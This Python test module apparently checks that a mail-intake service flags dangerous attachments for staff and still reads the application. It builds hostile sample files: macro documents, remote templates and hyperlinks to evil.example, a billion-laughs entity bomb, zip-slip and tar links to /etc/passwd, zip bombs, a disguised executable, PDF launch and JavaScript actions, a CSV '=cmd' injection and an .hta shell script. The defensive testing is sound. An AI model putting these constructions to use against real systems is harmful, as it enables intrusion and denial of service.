"""Files that would do something to whoever opens or unpacks them: staff are told, no letter calls them a fault, and the
application beside them is read."""

from __future__ import annotations

import io
import tarfile
import zipfile
from collections.abc import Sequence
from pathlib import Path

import pikepdf

from tests.attacks.scene import PASS, File, Scene
from tests.attacks.table import Acts, Kind, attack
from tests.intake.packers import odd, tarred, windows_program
from tests.intake.zips import zipped


def _told(s: Scene, files: Sequence[File]) -> Acts:
    """The application is read, staff are told of the danger by `verify`, and the letter says nothing of it."""
    mail = s.sends(s.thief, files=[s.form(), *files], verdict=PASS)
    yield
    case = s.case(mail)
    assert case["fields"]["bank_account_number"] == s.account
    danger = [finding for finding in case["findings"] if finding["rule"] == "attachment-dangerous"]
    assert danger and {finding["severity"] for finding in danger} == {"verify"}
    letter = s.letter(mail)
    assert letter is not None and "危险" not in letter.words and "宏" not in letter.words


def _with(data: bytes, **parts: bytes) -> bytes:
    """An Office file with more parts in it."""
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def _replaced(data: bytes, name: str, old: bytes, new: bytes) -> bytes:
    """An Office file with one part changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after:
        for member in before.namelist():
            content = before.read(member)
            after.writestr(member, content.replace(old, new, 1) if member == name else content)
    return out.getvalue()


@attack(Kind.DANGEROUS, "a Word form with macros", "read; attachment-dangerous for staff alone")
def macros_in_word(s: Scene) -> Acts:
    name, data = s.form("附件.docm", applicant_unit=s.unit)
    yield from _told(s, [(name, _with(data, **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)}))])


@attack(Kind.DANGEROUS, "a Word form whose template lies on another computer", "read; attachment-dangerous for staff alone")
def a_template_on_a_share(s: Scene) -> Acts:
    data = s.form()[1]
    relation = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" TargetMode="External" Target="\\\\evil.example\\t.dotm" Type="http://schemas.openxmlformats.org'
        b'/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    mail = s.sends(s.thief, files=[("申报书.docx", _with(data, **{"word/_rels/settings.xml.rels": relation}))], verdict=PASS)
    yield
    case = s.case(mail)
    assert case["fields"]["bank_account_number"] == s.account
    assert "verify" in {f["severity"] for f in case["findings"] if f["rule"] == "attachment-dangerous"}


@attack(
    Kind.DANGEROUS, "a Word file with entities that grow a thousand million times", "refused at once; the application is read"
)
def entities_without_end(s: Scene) -> Acts:
    rows = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12)).encode()
    data = _replaced(
        s.form()[1], "word/document.xml", b"<w:document", b'<!DOCTYPE d [<!ENTITY l0 "ha">' + rows + b"]><w:document"
    )
    yield from _told(s, [("附件.docx", data)])


@attack(Kind.DANGEROUS, "an archive with names that lead out of it: ../../x, /etc/x, C:\\x", "nothing is written there")
def names_that_lead_out_of_an_archive(s: Scene) -> Acts:
    names = (f"../../../../tmp/slip{s.mark}.txt", f"/tmp/slip{s.mark}.txt", f"C:\\slip{s.mark}.txt")
    yield from _told(s, [("资料.zip", zipped([(name, b"x") for name in names]))])
    assert not Path(f"/tmp/slip{s.mark}.txt").exists() and not [*s.tale.home.rglob(f"slip{s.mark}.txt")]


@attack(
    Kind.DANGEROUS,
    "links in a tar that lead to files of ours, and files written through them",
    "nothing is read or written there",
)
def links_in_a_tar(s: Scene) -> Acts:
    members = [odd(tarfile.SYMTYPE, "账", "/etc/passwd"), odd(tarfile.LNKTYPE, "户", "../../../etc/passwd"), ("账/x.txt", b"x")]
    yield from _told(s, [("资料.tar", tarred(members))])


@attack(Kind.DANGEROUS, "a bomb: forty megabytes of zeros in forty kilobytes", "refused; the application is read")
def a_bomb(s: Scene) -> Acts:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("零.bin", bytes(40 << 20))
    yield from _told(s, [("资料.zip", out.getvalue())])


@attack(Kind.DANGEROUS, "archives within archives, twelve deep", "opened so far as the limit goes; the application is read")
def archives_without_end(s: Scene) -> Acts:
    data = b"x"
    for depth in range(12):
        data = zipped([(f"{depth}.zip" if depth else "x.txt", data)])
    mail = s.sends(s.thief, files=[s.form(), ("资料.zip", data)], verdict=PASS)
    yield
    assert s.case(mail)["fields"]["bank_account_number"] == s.account and s.letter(mail) is not None


@attack(Kind.DANGEROUS, "a program, under its name and as a .pdf, in an archive and beside it", "named, never opened or shown")
def a_program(s: Scene) -> Acts:
    program = windows_program(s.mark.encode())
    yield from _told(s, [("查看器.exe", program), ("佐证.pdf", program), ("资料.zip", zipped([("请打开.scr", program)]))])
    assert not [path for path in (s.tale.home / "output").rglob("*") if path.is_file() and path.read_bytes() == program]


def _pdf(key: str, action: dict[str, object]) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.Root.OpenAction = pikepdf.Dictionary(Type=pikepdf.Name.Action, **action)
        document.docinfo["/Title"] = key
        document.save(out)
    return out.getvalue()


@attack(
    Kind.DANGEROUS, "a PDF that starts a program, or runs JavaScript, when it is opened", "attachment-dangerous for staff alone"
)
def a_pdf_that_acts(s: Scene) -> Acts:
    launch = _pdf(s.mark, {"S": pikepdf.Name.Launch, "F": pikepdf.String("calc.exe")})
    script = _pdf(s.mark, {"S": pikepdf.Name.JavaScript, "JS": pikepdf.String("app.alert(1)")})
    yield from _told(s, [("佐证一.pdf", launch), ("佐证二.pdf", script)])


@attack(Kind.DANGEROUS, "a spreadsheet with macros", "attachment-dangerous for staff alone")
def macros_in_a_spreadsheet(s: Scene) -> Acts:
    from openpyxl import Workbook

    out = io.BytesIO()
    Workbook().save(out)
    yield from _told(s, [("预算.xlsm", _with(out.getvalue(), **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)}))])


@attack(
    Kind.DANGEROUS, "cells that start a program: in a table as text, and in a spreadsheet", "attachment-dangerous for staff alone"
)
def cells_that_start_a_program(s: Scene) -> Acts:
    from openpyxl import Workbook

    out, book = io.BytesIO(), Workbook()
    book.active["A1"] = '=HYPERLINK("\\\\evil.example\\a.exe", "预算")'
    book.save(out)
    table = f"名称,金额\n{s.mark},=cmd|'/c calc'!A1\n"
    yield from _told(s, [("经费.csv", table.encode("gb18030")), ("预算.xlsx", out.getvalue())])


@attack(Kind.DANGEROUS, "a picture on a network share in a Word form", "never fetched; attachment-dangerous for staff alone")
def a_picture_on_a_share(s: Scene) -> Acts:
    data = s.form("附件.docx")[1]
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        has = "word/_rels/document.xml.rels" in package.namelist()
    relation = (
        b'<Relationship Id="rId99" TargetMode="External" Target="file://///evil.example/s/a.png" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/image"/></Relationships>'
    )
    assert has
    yield from _told(s, [("附件.docx", _replaced(data, "word/_rels/document.xml.rels", b"</Relationships>", relation))])


@attack(Kind.DANGEROUS, "shortcuts and scripts in an archive: .lnk, .url, .hta", "attachment-dangerous for staff alone")
def shortcuts_in_an_archive(s: Scene) -> Acts:
    link = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60)
    members = [
        ("申报书.lnk", link),
        ("官网.url", b"[InternetShortcut]\r\nURL=file://evil/x.exe\r\n"),
        ("说明.hta", b"<script>new ActiveXObject('WScript.Shell')</script>"),
    ]
    yield from _told(s, [("资料.zip", zipped(members))])


@attack(Kind.DANGEROUS, "a Word file with a part that grows to three hundred megabytes", "refused; the application is read")
def a_bomb_within_a_word_file(s: Scene) -> Acts:
    data = s.form("附件.docx")[1]
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after:
        for member in before.namelist():
            with after.open(member, "w") as part:
                part.write(before.read(member))
                for _ in range(300 if member == "word/document.xml" else 0):
                    part.write(b" " * (1 << 20))
    mail = s.sends(s.thief, files=[s.form(), ("附件.docx", out.getvalue())], verdict=PASS)
    yield
    case = s.case(mail)
    assert case["fields"]["bank_account_number"] == s.account
    assert {"attachment-dangerous", "attachment-unreadable"} & {f["rule"] for f in case["findings"] if f["severity"] == "verify"}


@attack(Kind.DANGEROUS, "a PDF of a thousand pages", "named as over a limit of ours; the application is read")
def a_pdf_of_a_thousand_pages(s: Scene) -> Acts:
    out = io.BytesIO()
    with pikepdf.new() as document:
        for _ in range(1000):
            document.add_blank_page()
        document.save(out)
    mail = s.sends(s.thief, files=[s.form(), ("佐证.pdf", out.getvalue())], verdict=PASS)
    yield
    case = s.case(mail)
    assert case["fields"]["bank_account_number"] == s.account
    assert {f["severity"] for f in case["findings"] if f["rule"] == "attachment-unreadable"} == {"verify"}
